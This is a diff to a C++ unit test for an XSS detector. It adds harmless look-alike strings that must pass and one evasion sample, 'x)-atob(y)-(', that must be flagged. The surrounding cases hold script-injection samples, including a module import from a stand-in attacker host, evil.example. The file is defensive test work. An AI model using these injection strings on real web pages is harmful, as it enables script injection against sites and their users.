@@ -61,6 +61,10 @@ TEST(Xss, LookAlikesPass) {
       {"the formaction attribute", ""},
       {"url(images/bg.png)", ""},
       {"import this", ""},
+      {"`-D_FORTIFY_SOURCE=2`, `-fstack-protector-strong`", ""},
+      {"\"gitcvs.enabled = true\" was set at the same time", ""},
+      {"acl is_mobile da-csv-fetch(mobileDevice) 1", ""},
+      {"first, fetch (or pull) the data", ""},
   };
   for (const Case& c : cases) EXPECT_EQ(verdict(c.input), c.expected) << c.input;
 }
@@ -92,6 +96,7 @@ TEST(Xss, EvasionsAreFound) {
       // Calls of code-running functions where a statement starts; ES imports.
       {"setInterval(code, 1)", "xss: script call"},
       {"x;btoa(document.title)", "xss: script call"},
+      {"x)-atob(y)-(", "xss: script call"},
       {"import { a, b } from \"./x.js\";", "xss: module import"},
       {"import * as m from 'https://evil.example/m.js'", "xss: module import"},
       // Leaving a script string to assign.
